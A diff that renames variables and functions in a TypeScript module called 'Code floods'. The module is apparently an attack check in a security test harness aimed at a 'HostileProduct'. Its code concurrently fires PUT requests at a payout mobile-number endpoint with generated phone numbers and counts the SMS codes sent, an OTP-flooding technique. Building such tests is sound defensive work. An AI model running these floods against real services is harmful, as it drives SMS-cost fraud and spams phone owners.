@@ -7,10 +7,10 @@ import { type HostileProduct, signIn } from './product.ts'
 export const name = 'Code floods'
 
 const TRIES = 99
-const AT_ONCE = 9
+const CONCURRENT = 9
 const NETWORK = 71_000
 
-interface Asked {
+interface CodeRequest {
   status: number
   /** The masked number a code was sent to; undefined if none was sent by SMS. */
   sentTo: string | undefined
@@ -23,7 +23,7 @@ export const attack: Attack = async (product) => {
   )
   for (const cookie of accounts) await call(product, 'POST', '/v1/auth/step-up', cookie, { password: product.password })
   const floods = await Promise.all(accounts.map((cookie, n) => flood(product, cookie, n)))
-  const sent = floods.map((asked) => asked.flatMap(({ sentTo }) => sentTo ?? []))
+  const sent = floods.map((requests) => requests.flatMap(({ sentTo }) => sentTo ?? []))
   const all = floods.flat()
   return [
     seen('codes requested', all.length),
@@ -40,18 +40,18 @@ export const attack: Attack = async (product) => {
   ]
 }
 
-async function flood(product: HostileProduct, cookie: string, block: number): Promise<Asked[]> {
-  const asked: Asked[] = []
-  for (let n = 0; n < TRIES; n += AT_ONCE)
-    asked.push(
+async function flood(product: HostileProduct, cookie: string, block: number): Promise<CodeRequest[]> {
+  const requests: CodeRequest[] = []
+  for (let n = 0; n < TRIES; n += CONCURRENT)
+    requests.push(
       ...(await Promise.all(
-        Array.from({ length: AT_ONCE }, (_, k) => ask(product, cookie, `9${block}${String(n + k).padStart(8, '0')}`)),
+        Array.from({ length: CONCURRENT }, (_, k) => requestCode(product, cookie, `9${block}${String(n + k).padStart(8, '0')}`)),
       )),
     )
-  return asked
+  return requests
 }
 
-async function ask(product: HostileProduct, cookie: string, mobile_number: string): Promise<Asked> {
+async function requestCode(product: HostileProduct, cookie: string, mobile_number: string): Promise<CodeRequest> {
   const path = '/v1/user/transactions/payout/add/mobilenumber'
   const { status, body } = await call(product, 'PUT', path, cookie, { mobile_number, confirm: 1 })
   const challenge = status === 200 ? (body as { data: { otp_mode: string; sent_to: string } }).data : undefined
